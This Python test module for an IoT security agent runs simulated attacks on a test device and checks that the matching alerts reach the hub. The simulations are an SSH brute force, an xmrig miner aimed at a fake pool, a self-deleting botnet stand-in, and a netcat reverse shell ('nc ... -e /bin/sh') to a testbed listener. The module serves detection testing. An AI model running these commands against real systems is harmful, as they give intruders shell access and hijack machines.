"""The integration scenarios, written against a Testbed (testbed.py): the
device is only ever reached through `run(cmd)`, SSH and the guest-visible
addresses of host services, so the same functions run on a QEMU guest, a
labgrid board or from the layer's oeqa runtime tests.

Each function performs the attack or change and returns once the hub shows
the expected result; it raises AssertionError saying what was awaited and
what arrived otherwise."""

from __future__ import annotations

import secrets
import time
from typing import Dict, List

from defender_iot.image.target import check, wait_for
from defender_iot.image.testbed import MODULE, Testbed, alerts, events


def payload(e: dict) -> dict:
    return (e.get("Payload") or [{}])[0]


def evidence(e: dict) -> dict:
    return payload(e).get("Evidence") or {}


def evidence_mentions(e: dict, text: str) -> bool:
    import json
    return text in json.dumps(evidence(e))


# ---- connection, periodic events, posture -------------------------------

def connects_and_reports(bed: Testbed, timeout: float = 180) -> Dict[str, dict]:
    hb = bed.wait_event("Heartbeat", timeout=timeout)
    si = bed.wait_event("SystemInformation", timeout=timeout)
    info = payload(si)
    status, uname = bed.run("uname -r")
    assert info.get("KernelRelease") == uname.strip(), f"SystemInformation {info} does not match uname -r {uname!r}"
    twin = wait_for("the module twin's reported configuration",
                    lambda: _reported_state(bed), timeout=60, interval=2)
    assert twin.get("latest_state") == "success", f"reported properties: {twin}"
    return {"Heartbeat": hb, "SystemInformation": si}


def _reported_state(bed: Testbed):
    rep = bed.hub.client.get_twin(bed.device, MODULE)["properties"]["reported"]
    return bool(rep.get("latest_state")), rep


def baseline_results(bed: Testbed, after: float = 0, timeout: float = 120) -> Dict[str, str]:
    """Check id -> Result from the newest Baseline event whose timestamp is
    after `after` (epoch seconds)."""
    def probe():
        evs = [e for e in events(bed.bodies(), "Baseline") if _epoch(e.get("TimestampUTC", "")) > after]
        if not evs:
            return False, f"{len(events(bed.bodies(), 'Baseline'))} Baseline events, none after {after}"
        return True, {p["Id"]: p["Result"] for p in evs[-1]["Payload"]}
    return wait_for("a Baseline (posture) event", probe, timeout, interval=2)


def _epoch(ts: str) -> float:
    import calendar
    try:
        return calendar.timegm(time.strptime(ts, "%Y-%m-%dT%H:%M:%SZ"))
    except ValueError:
        return 0


# sysctl checks that fail on the image as built (Linux defaults) and that
# hardening at runtime fixes.
HARDENING = {
    "DIOT-NET-009": "sysctl -w net.ipv4.conf.all.accept_redirects=0",
    "DIOT-NET-010": "sysctl -w net.ipv4.conf.default.accept_redirects=0",
}


def posture_then_hardening(bed: Testbed) -> Dict[str, str]:
    """On the project's image HARDENING's checks fail as built; on another
    image, those of them that fail are hardened (it may have none)."""
    before = baseline_results(bed)
    # Error means the agent could not evaluate a check: on an image it runs
    # on as designed, that is the agent's own fault.
    errors = sorted(i for i, r in before.items() if r == "Error")
    assert not errors, f"posture checks that could not be evaluated on the image: {errors}"
    failing = {i for i, r in before.items() if r == "Fail"}
    if bed.own_image:
        assert set(HARDENING) <= failing, \
            f"expected {sorted(HARDENING)} to fail on the image as built; failing: {sorted(failing)}"
    fix = {i: cmd for i, cmd in HARDENING.items() if i in failing}
    if not fix:
        return before
    status, out = bed.run("date +%s")
    now = float(out.strip())
    for cmd in fix.values():
        check(bed.target, cmd)
    after = baseline_results(bed, after=now + 1, timeout=180)
    not_fixed = {i: after.get(i) for i in fix if after.get(i) != "Pass"}
    assert not not_fixed, f"after hardening, still not Pass: {not_fixed}"
    return after


# ---- attacks ---------------------------------------------------------------

def brute_force(bed: Testbed, attempts: int = 8) -> List[dict]:
    """Wrong SSH passwords from the host, then the right one."""
    import paramiko

    def attempt(password: str) -> bool:
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(bed.ssh[0], bed.ssh[1], username="root", password=password, timeout=30, banner_timeout=60,
                      auth_timeout=30, allow_agent=False, look_for_keys=False)
            return True
        except paramiko.AuthenticationException:
            return False
        finally:
            c.close()

    wait_for("the device's SSH server", lambda: (_ssh_banner(bed), None), timeout=120, interval=2)
    mark = bed.mark()
    for i in range(attempts):
        assert not attempt(f"wrong-{i}"), "a wrong password was accepted"
    bf = bed.wait_event("BruteForce", alert=True, timeout=120, since=mark)
    assert attempt(bed.root_password), "the right password was refused"
    ok = bed.wait_event("BruteForceSuccess", alert=True, timeout=120, since=mark)
    for e in (bf, ok):
        assert evidence_mentions(e, bed.ssh_source), \
            f"{e['Name']} evidence does not name the source address {bed.ssh_source}: {evidence(e)}"
    return [bf, ok]


def _ssh_banner(bed: Testbed) -> bool:
    import socket
    try:
        with socket.create_connection(bed.ssh, timeout=10) as s:
            s.settimeout(20)
            return s.recv(64).startswith(b"SSH-")
    except OSError:
        return False


def crypto_miner(bed: Testbed) -> dict:
    pool = f"stratum+tcp://{bed.pool_address[0]}:{bed.pool_address[1]}"
    mark = bed.mark()
    check(bed.target, f"cp {bed.payload_dir}/xmrig /tmp/xmrig && "
                      f"(/tmp/xmrig -o {pool} -u 44AFFq5kSiGBoZ -p x >/dev/null 2>&1 &)")
    wait_for("the miner's mining.subscribe at the fake pool", lambda: ("mining.subscribe" in bed.pool.methods(),
             bed.pool.methods()), timeout=60)
    pid = check(bed.target, "pidof xmrig").split()[0]
    alert = bed.wait_event("CryptoMiner", alert=True, timeout=180, since=mark,
                           where=lambda e: evidence(e).get("ProcessId") == int(pid))
    assert evidence_mentions(alert, str(bed.pool_address[1])), f"no pool port in {evidence(alert)}"
    bed.run("killall xmrig; rm -f /tmp/xmrig")
    return alert


def botnet(bed: Testbed) -> dict:
    name = secrets.token_hex(4)
    opens = _tcp_active_opens(bed)
    mark = bed.mark()
    check(bed.target, f"cp {bed.payload_dir}/botnet /tmp/{name} && (/tmp/{name} 240 >/dev/null 2>&1 &) "
                      f"&& sleep 1 && rm /tmp/{name}")
    alert = bed.wait_event("Botnet", alert=True, timeout=180, where=lambda e: evidence_mentions(e, name),
                           since=mark)
    assert "deleted-executable" in evidence(alert).get("Indicators", []), f"Botnet indicators: {evidence(alert)}"
    # The stand-in did what a bot does: a raw TCP socket, telnet fan-out.
    check(bed.target, "grep -q ':0006 ' /proc/net/raw")
    assert _tcp_active_opens(bed) - opens >= 10, "the bot made fewer than 10 connection attempts"
    bed.run(f"killall {name}")
    return alert


def _tcp_active_opens(bed: Testbed) -> int:
    """Tcp ActiveOpens from /proc/net/snmp (header line, then values)."""
    lines = [l.split() for l in check(bed.target, "grep '^Tcp:' /proc/net/snmp").splitlines()]
    return int(lines[1][lines[0].index("ActiveOpens")])


def reverse_shell(bed: Testbed) -> dict:
    ip, port = bed.listener_address
    mark = bed.mark()
    check(bed.target, f"(nc {ip} {port} -e /bin/sh >/dev/null 2>&1 &)")
    bed.listener.accept(timeout=60)
    token = secrets.token_hex(4)
    got = bed.listener.command(f"echo shell-{token}", f"shell-{token}")
    assert f"shell-{token}" in got, f"the reverse shell did not answer: {got!r}"
    alert = bed.wait_event("ReverseShell", alert=True, timeout=180, since=mark)
    assert evidence_mentions(alert, ip) and evidence_mentions(alert, str(port)), \
        f"ReverseShell evidence does not name the listener {ip}:{port}: {evidence(alert)}"
    bed.listener.command("exit", "")
    return alert


def unexpected_listening_port(bed: Testbed, port: int = 31337) -> dict:
    mark = bed.mark()
    check(bed.target, f"(nc -l -p {port} >/dev/null 2>&1 &)")
    alert = bed.wait_event("UnexpectedListeningPort", alert=True, timeout=180, since=mark,
                           where=lambda e: evidence_mentions(e, str(port)))
    bed.run(f"for p in $(pidof nc); do grep -q {port} /proc/$p/cmdline && kill $p; done")
    return alert


# ---- twin and outage -------------------------------------------------------

def twin_disables_a_collector(bed: Testbed, interval: float = 6) -> None:
    """`interval`: the High priority interval of the image's config (6 s)."""
    # First show heartbeats flowing at the High rate, so that their absence
    # after the patch means something.
    bed.hub.client.set_desired(bed.device, MODULE, {"Heartbeat_MessageFrequency": "High"})
    n = len(events(bed.bodies(), "Heartbeat"))
    wait_for("two more Heartbeat events at the High rate", lambda: (
        len(events(bed.bodies(), "Heartbeat")) >= n + 2, len(events(bed.bodies(), "Heartbeat")) - n),
        timeout=10 * interval + 30)
    bed.hub.client.set_desired(bed.device, MODULE, {"Heartbeat_Disabled": True})
    wait_for("Heartbeat_Disabled=true in the reported configuration",
             lambda: (_reported_state(bed)[1].get("configuration", {}).get("Heartbeat_Disabled") is True,
                      _reported_state(bed)[1]), timeout=60)
    time.sleep(interval + 2)          # a message built before the patch may still be in flight
    before = len(events(bed.bodies(), "Heartbeat"))
    time.sleep(3 * interval)
    after = len(events(bed.bodies(), "Heartbeat"))
    assert after == before, f"{after - before} Heartbeat events arrived after Heartbeat_Disabled"

    bed.hub.client.set_desired(bed.device, MODULE, {"Heartbeat_Disabled": False,
                                                    "Heartbeat_MessageFrequency": "Sometimes"})
    rep = wait_for("latest_state failed with the bad key", lambda: (
        _reported_state(bed)[1].get("latest_state") == "failed", _reported_state(bed)[1]), timeout=60)
    assert "Heartbeat_MessageFrequency" in (rep.get("latest_invalid_fields") or []), rep
    # The whole bad patch was refused: the collector is still off.
    assert rep["configuration"]["Heartbeat_Disabled"] is True, rep
    bed.hub.client.set_desired(bed.device, MODULE, {"Heartbeat_Disabled": False,
                                                    "Heartbeat_MessageFrequency": "High"})
    n = len(events(bed.bodies(), "Heartbeat"))
    wait_for("Heartbeat events again after re-enabling", lambda: (len(events(bed.bodies(), "Heartbeat")) > n,
             len(events(bed.bodies(), "Heartbeat"))), timeout=90)


def outage(bed: Testbed, seconds: float = 60, markers: int = 5, max_gap: float = 25) -> None:
    """The hub is down for `seconds`; events produced meanwhile (processes
    started with unique command lines, heartbeats) all arrive afterwards."""
    assert bed.restart_hub is not None, "this testbed cannot stop its hub"
    token = secrets.token_hex(3)
    tags = [f"outage-{token}-{i}" for i in range(markers)]

    def during() -> None:
        for i, tag in enumerate(tags):
            # sh stays (its last command is a builtin, so it does not exec
            # sleep) and keeps the tag in its command line for 20 s.
            check(bed.target, f"(sh -c 'sleep 20; : {tag}' &)")
            time.sleep(seconds / (markers + 1))
    t0 = float(check(bed.target, "date +%s"))
    bed.restart_hub(seconds, during)
    t1 = float(check(bed.target, "date +%s"))

    def probe():
        lines = " ".join(str(p.get("CommandLine", "")) for e in events(bed.bodies(), "Process")
                         for p in e.get("Payload", []))
        missing = [t for t in tags if t not in lines]
        return not missing, f"missing {missing}"
    wait_for(f"the {markers} processes started during the outage to arrive as Process events", probe,
             timeout=240, interval=3)

    # The periodic heartbeats made while the hub was down arrive too: no gap
    # in their timestamps across the outage is longer than a few intervals.
    def gaps():
        stamps = sorted(_epoch(e.get("TimestampUTC", "")) for e in events(bed.bodies(), "Heartbeat"))
        inside = [t for t in stamps if t0 - max_gap <= t <= t1 + max_gap]
        worst = max((b - a for a, b in zip(inside, inside[1:])), default=t1 - t0)
        return len(inside) >= 2 and worst <= max_gap, f"heartbeats around the outage at {inside}"
    wait_for(f"heartbeats every <= {max_gap:.0f} s across the outage ({t0:.0f}..{t1:.0f})", gaps,
             timeout=120, interval=3)
